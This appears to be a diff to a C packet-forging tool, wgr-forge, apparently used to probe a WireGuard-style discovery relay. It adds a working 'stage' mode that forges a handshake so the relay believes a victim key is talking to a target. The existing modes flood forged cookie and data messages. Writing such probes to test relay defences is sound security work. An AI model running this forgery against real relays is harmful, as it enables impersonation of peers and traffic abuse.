@@ -12,6 +12,15 @@
  *       cookie      64-byte cookie replies to random indices
  *       data        type-4 messages with random receiver indices and counters
  * PPS bounds the rate; COUNT the total. Exits 0 when all were sent.
+ *
+ *   wgr-forge stage ADDR PORT PUB_BAIT PUB_TARGET PUB_VICTIM
+ *
+ * Plays both ends of a handshake through discovery, from two sockets of its own:
+ * socket B initiates to BAIT (so that it is a discovery candidate), socket A
+ * initiates to TARGET, B answers the copy the relay sends it with a response
+ * whose mac1 names VICTIM, and A sends the first data on it. To the relay this
+ * looks like VICTIM (at A) completing a handshake with TARGET (at B). Exits 0 if
+ * the relay passed on every step (B got the copy, A got the response).
  */
 #include <arpa/inet.h>
 #include <errno.h>
@@ -113,6 +122,89 @@ static size_t make(const char *mode, uint8_t *msg, const uint8_t *pub)
 	return 0;
 }
 
+static void put_le32(uint8_t *p, uint32_t v)
+{
+	p[0] = (uint8_t)v;
+	p[1] = (uint8_t)(v >> 8);
+	p[2] = (uint8_t)(v >> 16);
+	p[3] = (uint8_t)(v >> 24);
+}
+
+static int stage_socket(const struct sockaddr_storage *to, socklen_t len)
+{
+	struct timeval tv = { .tv_sec = 3 };
+	int fd = socket(to->ss_family, SOCK_DGRAM, 0);
+
+	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv)) ||
+	    connect(fd, (const struct sockaddr *)to, len)) {
+		perror("wgr-forge: stage socket");
+		exit(1);
+	}
+	return fd;
+}
+
+/* Receive until a message of @type comes, or time runs out. */
+static int stage_wait(int fd, uint8_t type, uint8_t *buf, size_t len)
+{
+	for (int i = 0; i < 20; i++) {
+		ssize_t n = recv(fd, buf, len, 0);
+
+		if (n < 0)
+			return -1;
+		if (n >= 4 && buf[0] == type)
+			return (int)n;
+	}
+	return -1;
+}
+
+static int stage(const struct sockaddr_storage *to, socklen_t len, char **keys)
+{
+	uint8_t bait[32], target[32], victim[32], msg[1600];
+	uint32_t s_index, r_index;
+	int a, b;
+
+	if (b64_decode32(keys[0], bait) || b64_decode32(keys[1], target) ||
+	    b64_decode32(keys[2], victim)) {
+		fprintf(stderr, "wgr-forge: stage needs three base64 public keys\n");
+		return 2;
+	}
+	a = stage_socket(to, len);
+	b = stage_socket(to, len);
+	fill_random(&s_index, sizeof(s_index));
+	fill_random(&r_index, sizeof(r_index));
+
+	make("initiation", msg, bait);
+	if (send(b, msg, 148, 0) < 0)
+		return perror("send"), 1;
+	usleep(200000);
+	make("initiation", msg, target);
+	put_le32(msg + 4, s_index);
+	set_mac1(msg, 116, target);
+	if (send(a, msg, 148, 0) < 0)
+		return perror("send"), 1;
+	if (stage_wait(b, 1, msg, sizeof(msg)) != 148) {
+		fprintf(stderr, "wgr-forge: stage: B got no discovery copy\n");
+		return 1;
+	}
+	make("response", msg, victim);
+	put_le32(msg + 4, r_index);
+	put_le32(msg + 8, s_index);
+	set_mac1(msg, 60, victim);
+	if (send(b, msg, 92, 0) < 0)
+		return perror("send"), 1;
+	if (stage_wait(a, 2, msg, sizeof(msg)) != 92) {
+		fprintf(stderr, "wgr-forge: stage: A got no response\n");
+		return 1;
+	}
+	make("data", msg, NULL);
+	put_le32(msg + 4, r_index);
+	memset(msg + 8, 0, 8);
+	if (send(a, msg, 32, 0) < 0)
+		return perror("send"), 1;
+	printf("staged: victim at A, target at B\n");
+	return 0;
+}
+
 int main(int argc, char *argv[])
 {
 	struct sockaddr_storage ss = { 0 };
@@ -124,8 +216,18 @@ int main(int argc, char *argv[])
 	int fd;
 
 	if (argc < 6) {
-		fprintf(stderr, "usage: wgr-forge MODE ADDR PORT COUNT PPS [PUBKEY]\n");
+		fprintf(stderr, "usage: wgr-forge MODE ADDR PORT COUNT PPS [PUBKEY]\n"
+				"       wgr-forge stage ADDR PORT PUB_BAIT PUB_TARGET PUB_VICTIM\n");
 		return 2;
+	}
+	if (!strcmp(argv[1], "stage")) {
+		if (argc != 7 || inet_pton(AF_INET, argv[2], &sin->sin_addr) != 1) {
+			fprintf(stderr, "wgr-forge: stage IPV4ADDR PORT PUB_BAIT PUB_TARGET PUB_VICTIM\n");
+			return 2;
+		}
+		sin->sin_family = AF_INET;
+		sin->sin_port = htons((uint16_t)atoi(argv[3]));
+		return stage(&ss, sizeof(*sin), argv + 4);
 	}
 	count = strtol(argv[4], NULL, 10);
 	pps = strtol(argv[5], NULL, 10);
